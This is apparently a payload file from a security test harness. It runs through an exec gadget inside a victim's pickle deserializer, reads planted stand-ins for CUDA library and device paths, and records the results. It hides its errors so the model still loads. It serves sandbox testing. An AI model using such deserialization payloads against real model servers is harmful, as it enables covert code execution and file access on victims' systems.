"""Payload (builtins.exec gadget): CUDA library and device abuse. Opens and reads each path in
PARAMS["paths"] (the harness plants stand-ins for libcuda.so.1 and /dev/nvidia0, each holding a
nonce) and records what it read in PARAMS["marker"] as JSON:
  {"read": {path: text}, "errors": {path: "<type>: <message>"}}
The harness looks for each nonce in "read"; "errors" says how a path was refused.

Runs inside the victim's unpickler with PARAMS bound. Errors are swallowed (to stderr only) so the
model still loads; nothing goes to stdout, which is the server's readiness channel.
"""
import json
import sys

READ_LIMIT = 4096  # the stand-ins are tiny; a real device or library must not be slurped whole

try:
    report = {"read": {}, "errors": {}}
    for path in PARAMS["paths"]:
        try:
            with open(path, "rb") as target:
                report["read"][path] = target.read(READ_LIMIT).decode("utf-8", "replace")
        except OSError as error:
            report["errors"][path] = f"{type(error).__name__}: {error}"
    with open(PARAMS["marker"], "w") as marker:
        json.dump(report, marker)
except Exception as error:
    print(f"open_device: {type(error).__name__}: {error}", file=sys.stderr)
